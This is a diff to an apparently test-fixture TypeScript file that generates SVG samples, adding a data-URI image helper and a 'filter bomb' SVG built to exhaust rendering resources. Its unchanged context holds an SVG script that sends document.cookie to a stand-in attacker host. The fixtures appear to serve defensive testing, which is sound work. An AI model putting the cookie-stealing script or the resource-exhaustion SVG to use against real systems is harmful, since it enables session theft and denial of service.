@@ -30,3 +30,23 @@ export const scriptedSvg = Buffer.from(
     `<script>fetch('https://attacker.example/'+document.cookie)</script>` +
     `<rect width="100" height="100" fill="red"/></svg>`,
 );
+
+/** An SVG of `size` px whose `<image>` embeds `raster` as a base64 data: URI (xlink or plain href). */
+export function svgEmbedding(raster: Buffer, options: { size?: number; xlink?: boolean; mime?: string } = {}): Buffer {
+  const size = options.size ?? 100;
+  const attribute = options.xlink ? "xlink:href" : "href";
+  const uri = `data:${options.mime ?? "image/png"};base64,${raster.toString("base64")}`;
+  return Buffer.from(
+    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="${size}" height="${size}">` +
+      `<image ${attribute}="${uri}" width="${size}" height="${size}"/></svg>`,
+  );
+}
+
+/** Tiny file, huge work: turbulence blurred by a deviation of 500 over a canvas of `size`² px. */
+export function filterBombSvg(size = 7000, octaves = 4): Buffer {
+  return Buffer.from(
+    `<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}"><filter id="f">` +
+      `<feTurbulence baseFrequency="0.9" numOctaves="${octaves}"/><feGaussianBlur stdDeviation="500"/></filter>` +
+      `<rect width="100%" height="100%" filter="url(#f)"/></svg>`,
+  );
+}
